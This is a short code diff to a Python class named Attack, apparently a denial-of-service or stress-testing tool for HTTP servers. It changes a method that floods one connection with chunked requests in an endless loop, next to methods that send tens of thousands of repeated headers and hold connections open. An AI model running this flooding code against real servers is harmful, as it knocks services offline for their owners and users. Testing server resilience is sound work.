@@ -72,9 +72,11 @@ class Attack:
                 client.sendall(b"A: b\r\n" * 50_000)
 
     def endless_queue(self) -> None:
+        """Of requests whose bodies are read, which lets more of them in."""
+        request = CHUNKED + b"2\r\n{}\r\n0\r\n\r\n"
         with self.connect() as client:
             while True:
-                client.sendall(LIVE * 10_000)
+                client.sendall(request * 5_000)
 
     def connections_that_never_end(self) -> None:
         """Of each kind one; all are kept open until the attack is over."""
